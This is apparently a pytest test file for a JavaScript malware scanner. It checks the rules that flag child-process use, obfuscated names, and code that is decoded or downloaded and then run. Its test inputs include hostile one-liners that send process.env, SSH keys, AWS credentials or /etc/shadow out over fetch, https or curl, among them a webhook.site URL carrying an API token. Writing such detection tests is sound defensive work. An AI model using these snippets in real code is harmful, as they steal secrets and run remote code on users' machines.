"""What the JavaScript analyzer reports."""

import os

import pytest
from hypothesis import given, strategies as st

from metier.scan.languages.javascript import commands, find
from metier.scan.rules.javascript import RULES

CASES = os.path.join(os.path.dirname(__file__), "..", "..", "rules")


def rules(code: str) -> set[str]:
    return {hit.rule for hit in find(code)}


def case(rule: str, name: str) -> str:
    with open(os.path.join(CASES, rule, f"{name}.js.txt"), encoding="utf-8") as file:
        return file.read()


@pytest.mark.parametrize("rule", [rule.id for rule in RULES])
def test_each_rule_finds_its_case_and_leaves_its_near_miss(rule: str) -> None:
    found, near = rules(case(rule, "match")), rules(case(rule, "near"))

    assert rule in found
    assert rule not in near


@pytest.mark.parametrize(
    "code",
    [
        "require('child_process').exec(c)",
        "require('node:child_process').exec(c)",
        "const { exec: go } = require('child_process'); go(c)",
        "import { exec as go } from 'child_process'; go(c)",
        "import * as cp from 'node:child_process'; cp.spawnSync(c)",
        "const cp = await import('child_process'); cp.exec(c)",
        "const m = 'child_' + 'process'; const cp = require(m); cp.exec(c)",
        "const cp = require(['child', 'process'].join('_')); cp.exec(c)",
        "const cp = require('ssecorp_dlihc'.split('').reverse().join('')); cp.exec(c)",
    ],
)
def test_every_way_to_a_child_process_is_seen(code: str) -> None:
    assert "SC400" in rules(code)


@pytest.mark.parametrize(
    "code",
    [
        "require('chi' + 'ld_process')",
        "require(['child', 'process'].join('_'))",
        "globalThis['ev' + 'al'](x)",
        "process.binding('spawn_sync')",
        "const cp = require('child_process'); cp['ex' + 'ec'](c)",
    ],
)
def test_a_name_in_pieces_is_reported_as_hidden(code: str) -> None:
    assert "SC402" in rules(code)


@pytest.mark.parametrize(
    "code",
    [
        "eval(atob('cmVxdWlyZSgnZnMnKQ=='))",
        "const t = Buffer.from(x, 'hex').toString(); new Function(t)()",
        "const s = String.fromCharCode(97, 98); eval(s)",
        "const { exec } = require('child_process'); exec(Buffer.from(x, 'base64') + '')",
        "require(atob('Y2hpbGRfcHJvY2Vzcw=='))",
    ],
)
def test_what_is_decoded_and_then_run_is_critical(code: str) -> None:
    assert "SC404" in rules(code)


@pytest.mark.parametrize(
    "code",
    [
        "const r = await fetch(u); const t = await r.text(); eval(t)",
        "https.get(u, res => { let b = ''; res.on('data', d => { b += d }); res.on('end', () => { eval(b) }) })",
        "import axios from 'axios'; axios.get(u).then(r => new Function(r.data)())",
    ],
)
def test_what_is_downloaded_and_then_run_is_critical(code: str) -> None:
    assert "SC405" in rules("const https = require('https');\n" + code)


@pytest.mark.parametrize(
    "code",
    [
        "fetch(u, { method: 'POST', body: JSON.stringify(process.env) })",
        "const e = { ...process.env }; fetch(u, { body: JSON.stringify(e) })",
        "fs.readFile(home + '/.ssh/id_rsa', 'utf8', (err, key) => { fetch(u, { body: key }) })",
        "const p = path.join(os.homedir(), '.aws', 'credentials'); fetch(u, { body: fs.readFileSync(p) })",
        "const req = https.request(u); req.write(fs.readFileSync('/etc/shadow')); req.end()",
        "fetch('https://webhook.site/x?k=' + process.env.API_TOKEN)",
        "fetch(u, { body: JSON.stringify({ mnemonic }) })",
        "cp.exec(`curl -d ${JSON.stringify(process.env)} ${u}`)",
    ],
)
def test_a_secret_that_reaches_a_request_is_critical(code: str) -> None:
    imports = "".join(
        f"const {name} = require('{module}');\n"
        for name, module in (
            ("fs", "fs"),
            ("os", "os"),
            ("path", "path"),
            ("https", "https"),
            ("cp", "child_process"),
        )
    )

    assert "SC413" in rules(imports + code)


@pytest.mark.parametrize(
    "code",
    [
        "fetch(u, { headers: { authorization: `Bearer ${process.env.API_TOKEN}` } })",
        "const { API_TOKEN, HOST } = process.env; fetch(HOST, { headers: { a: API_TOKEN } })",
        "spawn('curl', [u], { env: { ...process.env } })",
        "const w = new Wallet(privateKey); fetch(u + w.address)",
        "// fs.readFileSync('~/.ssh/id_rsa')\nfetch(u)",
    ],
)
def test_everyday_use_of_keys_is_no_theft(code: str) -> None:
    assert "SC413" not in rules("import { spawn } from 'child_process';\n" + code)


def test_a_hit_stands_where_the_code_stands() -> None:
    code = "let a = 1;\nlet b = eval(c);\n"

    (hit,) = find(code)

    assert "eval(c)" == code[hit.start : hit.end]


def test_command_lines_are_handed_out_for_the_shell_analyzer() -> None:
    code = (
        "const { exec, spawn } = require('child_process'); exec('ls -l'); spawn('git', ['status'])"
    )

    actual = [text for _, _, text in commands(code)]

    assert ["ls -l", "git status"] == actual


def test_hits_are_few_however_long_the_script() -> None:
    hits = find("eval(x);\n" * 500)

    assert 20 == len(hits)


@given(st.text(alphabet="()[]{}'\"`/\\+.=>$, \nrequireval:;\0\ud800", max_size=120))
def test_no_text_makes_it_raise(code: str) -> None:
    hits = find("eval " + code)

    assert hits == sorted(hits, key=lambda hit: (hit.start, hit.rule))
